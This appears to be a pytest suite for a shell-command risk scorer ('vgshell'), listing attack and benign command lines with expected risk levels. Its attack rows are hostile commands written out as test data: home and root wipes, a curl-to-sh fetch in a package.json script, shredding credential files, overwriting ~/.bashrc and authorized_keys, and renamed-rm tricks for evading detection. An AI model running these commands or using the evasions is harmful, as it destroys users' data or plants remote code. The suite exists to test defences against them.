"""Bypasses and false alarms of the walk found by an attacker's review, one row each: scripts and programs the
line makes before it runs them (copies, links, extraction), task-runner scripts (package.json, Makefile
`$(shell …)`), output files named in options, destruction without rm, and the look-alike benign lines.

Rows are `(attack, command, level)`: attack rows must score at least `level`, benign rows at most. Files the
rows run are real files in a temporary project, read through `HostFiles`.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from vgshell.files import HostFiles
from vgshell.risk.engine import assess
from vgshell.risk.model import Level

C, H, M, L = Level.CRITICAL, Level.HIGH, Level.MEDIUM, Level.LOW

WIPE = "rm -rf ~\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    proj = home / "project"
    proj.mkdir(parents=True)
    (proj / ".x.sh").write_text(WIPE)
    (proj / ".x.py").write_text("import os\nos.system('rm -rf ~')\n")
    (proj / "ok.sh").write_text("echo hello\n")
    (proj / "lib.sh").write_text("wipe() { rm -rf ~; }\n")
    return proj


def _check(command: str, level: Level, attack: bool, proj: Path) -> None:
    a = assess(command, str(proj), str(proj.parent), files=HostFiles())
    found = [(f.rule, f.match, f.where) for f in a.findings]
    assert (a.risk >= level) if attack else (a.risk <= level), found


# ------------------------------------------------------------------ scripts made on the line (B4)

MADE_SCRIPTS = [
    (True, "cp .x.sh z.sh; bash z.sh", C),
    (True, "cp .x.sh z.sh && ./z.sh", C),
    (True, "mv .x.sh z.sh; bash z.sh", C),
    (True, "install -m 755 .x.sh z.sh; sh z.sh", C),
    (True, "ln .x.sh z.sh; bash z.sh", C),
    (True, "ln -s .x.sh z.sh; bash z.sh", M),
    (True, "cat .x.sh > c.sh; bash c.sh", C),
    (True, "cat .x.sh | tee c.sh >/dev/null; bash c.sh", M),
    (True, "dd if=.x.sh of=d.sh; bash d.sh", C),
    (True, "cp .x.py z.py; python3 z.py", C),
    (True, "bash $(ls *.sh | head -1)", M),
    (True, "bash ./.x*", M),
    (True, "bash .?.sh", M),
    (True, 'source "$(dirname "$0")/lib.sh"; wipe', M),
    (True, "git clone https://example.com/x.git x && bash x/install.sh", M),
    (True, "tar xf a.tar && ./setup.sh", M),
    (True, "unzip a.zip && bash setup.sh", M),
    (False, "bash ok.sh", L),
    (False, "cp ok.sh z.sh; bash z.sh", L),
    (False, "bash missing.sh", L),
    (False, "tar cf a.tar src && ls", L),
]


@pytest.mark.parametrize(("attack", "command", "level"), MADE_SCRIPTS)
def test_scripts_made_on_the_line_are_followed_or_blind(attack: bool, command: str, level: Level,
                                                        project: Path) -> None:
    _check(command, level, attack, project)


# ------------------------------------------------------------------ programs copied or linked (B3)

SAME_PROGRAM = [
    (True, "cp /bin/rm ./safe; ./safe -rf ~", C),
    (True, "cp /bin/rm safe && ./safe -rf /", C),
    (True, 'ln -s "$(command -v rm)" x; ./x -rf ~', C),
    (True, "ln -s /bin/rm ./ls; PATH=.:$PATH ls -rf ~", C),
    (True, "ln -s /bin/rm ./ls; export PATH=.:$PATH; ls -rf ~", C),
    (False, "cp /bin/ls ./mine; ./mine -la ~", L),
    (False, "cp /bin/rm ./safe; ./safe tmpfile", L),
]


@pytest.mark.parametrize(("attack", "command", "level"), SAME_PROGRAM)
def test_a_copied_or_linked_program_keeps_its_identity(attack: bool, command: str, level: Level,
                                                       project: Path) -> None:
    _check(command, level, attack, project)


# ------------------------------------------------------------------ task runners (B2)

PACKAGE = '{"scripts": {"test": "rm -rf ~", "prebuild": "curl -s http://example.com/x | sh", "build": "tsc",' \
          ' "lint": "eslint .", "postinstall": "rm -rf /"}}'

TASK_RUNNERS = [
    (True, "npm test", C),
    (True, "npm t", C),
    (True, "npm run test", C),
    (True, "yarn test", C),
    (True, "pnpm test", C),
    (True, "npm run build", H),
    (True, "yarn build", H),
    (True, "npm install", C),
    (True, "npm ci", C),
    (True, "make", C),
    (True, "make all", C),
    (False, "npm run lint", L),
    (False, "npm install left-pad", M),  # its own rule, not the project's postinstall
    (False, "npm view react version", L),
]


@pytest.mark.parametrize(("attack", "command", "level"), TASK_RUNNERS)
def test_task_runner_scripts_are_judged(attack: bool, command: str, level: Level, project: Path) -> None:
    (project / "package.json").write_text(PACKAGE)
    (project / "Makefile").write_text("X := $(shell rm -rf ~)\nall:\n\techo ok\n")
    _check(command, level, attack, project)


def test_a_package_script_is_named_in_the_reason(project: Path) -> None:
    (project / "package.json").write_text(PACKAGE)
    a = assess("npm test", str(project), str(project.parent), files=HostFiles())
    assert any((f.where or "").startswith("package.json scripts.test") for f in a.findings), a.findings


def test_a_benign_makefile_shell_is_low(project: Path) -> None:
    (project / "Makefile").write_text("REV := $(shell git rev-parse --short HEAD)\nall:\n\techo $(REV)\n")
    assert assess("make", str(project), str(project.parent), files=HostFiles()).risk <= L


# ------------------------------------------------------------------ files named in options are writes (B6)

OUTPUT_OPTIONS = [
    (True, "find . -maxdepth 0 -fprintf ~/.bashrc 'touch ~/PWNED\\n'", M),
    (True, "find . -fprintf /etc/cron.d/x 'x'", H),
    (True, "sed -n 'w /etc/cron.d/x' payload", H),
    (True, 'sed -n "w $HOME/.bashrc" payload', M),
    (True, "awk -v f=$HOME/.ssh/authorized_keys '{print >> f}' k", H),
    (True, "sort -o ~/.bashrc payload", M),
    (True, "uniq payload ~/.bashrc", M),
    (True, "gpg -o ~/.bashrc -d x.gpg", M),
    (True, "openssl enc -d -in x -out ~/.profile", M),
    (True, "unzip -o x.zip -d ~", H),
    (True, "tar xf x.tar -C /etc", H),
    (True, "curl -o ~/.bashrc http://127.0.0.1/x", H),
    (True, "wget -O ~/.ssh/authorized_keys http://127.0.0.1/k", H),
    (False, "sort -o out.txt in.txt", L),
    (False, "tar xf x.tar -C build", L),
    (False, "tar xf x.tar -C ~/project/vendor", L),
    (False, "unzip x.zip -d vendor", L),
    (False, "awk '{print > \"out.txt\"}' in", L),
    (False, "uniq a b", L),
    (False, "sed 's/foo/w x/' f", L),
    (False, "tar cf out.tar src", L),
    (False, "find . -name '*.log' -fprint found.txt", L),
]


@pytest.mark.parametrize(("attack", "command", "level"), OUTPUT_OPTIONS)
def test_files_named_in_options_are_writes(attack: bool, command: str, level: Level, project: Path) -> None:
    a = assess(command, "/home/dev/project", "/home/dev")
    found = [(f.rule, f.match) for f in a.findings]
    assert (a.risk >= level) if attack else (a.risk <= level), found


# ------------------------------------------------------------------ destruction without rm, shell forms (B5)

WITHOUT_RM = [
    (True, "find ~ -type f -exec truncate -s0 {} +", H),
    (True, "find ~ -type f -exec shred -u {} +", H),
    (True, "cat /dev/null > ~/.ssh/id_rsa", H),
    (True, "echo > ~/.aws/credentials", H),
    (True, "> ~/.gitconfig", M),
    (True, "chmod 000 ~", H),
    (True, "chmod a-rwx ~/.ssh", H),
    (True, "sed -i d /etc/hosts", H),
    (True, "sed -i -e d /etc/passwd", H),
    (False, "find . -name '*.log' -exec truncate -s0 {} +", L),
    (False, "truncate -s0 log.txt", L),
    (False, "chmod 000 secret.txt", L),
    (False, "chmod 700 ~", L),
    (False, "sed -i 's/a/b/' x.txt", L),
    (False, "sed -i.bak -e 's/a/b/' x.txt", L),
    (False, "cat ~/.ssh/id_rsa.pub > key.txt", L),
    (False, "git config --global user.name x", L),
]


@pytest.mark.parametrize(("attack", "command", "level"), WITHOUT_RM)
def test_destruction_without_rm(attack: bool, command: str, level: Level, project: Path) -> None:
    a = assess(command, "/home/dev/project", "/home/dev")
    found = [(f.rule, f.match) for f in a.findings]
    assert (a.risk >= level) if attack else (a.risk <= level), found


# ------------------------------------------------------------------ false alarms (F1, F2, F4)

BENIGN = [
    (False, 'tmp=$(mktemp); echo hi > "$tmp"; rm -f "$tmp"', L),
    (False, "tmp=$(mktemp -d); trap 'rm -rf \"$tmp\"' EXIT; echo x", L),
    (False, 'cd "$(git rev-parse --show-toplevel)" && rm -rf build', M),
    (False, "rm -rf ./build", M),  # recursive deletes in the project stay medium (see the report of F2)
    (False, 'rm -rf $(mktemp -d -p ~)', L),
    (False, "rm -rf ~/.cache/pip", L),
    (False, "export $(grep -v '^#' .env | xargs)", L),
    # the look-alikes that keep their levels
    (True, "rm -rf .", H),
    (True, "rm -rf *", H),
    (True, "rm -rf ..", H),
    (True, "rm -rf ../other", H),
    (True, "rm -rf ~", C),
    (True, "rm -rf /tmp", H),
    (True, "rm -rf /tmp/*", H),
    (True, "rm -rf $X", H),
    (True, "rm -rf ~/tmp.XXXXXXXXXX/../..", C),
    (True, "rm -rf ~/work/XXX", H),
    (True, "{ cd ..; echo ok; } && rm -rf build", H),
    (True, "cd ~ && rm -rf Documents", H),
    (False, "cd src && rm -rf ../build", M),
    (True, "find ~ -name '*.bak' -delete", M),
    (True, "cat .env", M),
    (True, "x=$(cat .env); echo $x", M),
]


@pytest.mark.parametrize(("attack", "command", "level"), BENIGN)
def test_false_alarms_of_the_review(attack: bool, command: str, level: Level, project: Path) -> None:
    a = assess(command, "/home/dev/project", "/home/dev")
    found = [(f.rule, f.match) for f in a.findings]
    assert (a.risk >= level) if attack else (a.risk <= level), found


def test_a_trap_body_is_blamed_on_its_own_line(project: Path) -> None:
    (project / "build.sh").write_text("#!/bin/sh\nset -e\necho start\ntrap 'rm -rf ~' EXIT\necho done\n")
    a = assess("./build.sh", str(project), str(project.parent), files=HostFiles())
    assert a.risk >= C
    assert any(f.where == "./build.sh:4" for f in a.findings), [(f.rule, f.where) for f in a.findings]


def test_a_typical_build_script_with_a_temp_file_is_low(project: Path) -> None:
    (project / "build.sh").write_text('#!/bin/sh\ntmp=$(mktemp)\ntrap \'rm -f "$tmp"\' EXIT\n'
                                      'echo hi > "$tmp"\nrm -rf ./dist\n')
    a = assess("./build.sh", str(project), str(project.parent), files=HostFiles())
    assert a.risk <= M and not any(f.rule.startswith("fs.rm-unknown") or f.rule == "fs.rm-outside-project"
                                   for f in a.findings), [(f.rule, f.where) for f in a.findings]


# ------------------------------------------------------------------ a renamed program that already exists (B3)

def test_an_existing_renamed_copy_or_link_of_rm_is_rm(project: Path) -> None:
    rm = Path("/usr/bin/rm")
    (project / "safe").write_bytes(rm.read_bytes())
    (project / "ls").symlink_to(rm)
    (project / "tool").write_bytes(b"\x7fELF\x00not a known program")
    for line, level in (("./safe -rf ~", C), ("./ls -rf ~", C)):
        assert assess(line, str(project), str(project.parent), files=HostFiles()).risk >= level, line
    assert assess("./tool build", str(project), str(project.parent), files=HostFiles()).risk <= L
    assert assess("/usr/bin/python3 -c 'print(1)'", str(project), str(project.parent), files=HostFiles()).risk <= L


SHELL_OPTIONS = [
    (False, "set -e", L),
    (False, "set -euo pipefail", L),
    (False, "set +x", L),
    (True, "set", M),
    (True, "env", M),
]


@pytest.mark.parametrize(("attack", "command", "level"), SHELL_OPTIONS)
def test_setting_shell_options_prints_nothing(attack: bool, command: str, level: Level, project: Path) -> None:
    risk = assess(command, "/home/dev/project", "/home/dev").risk
    assert risk >= level if attack else risk <= level
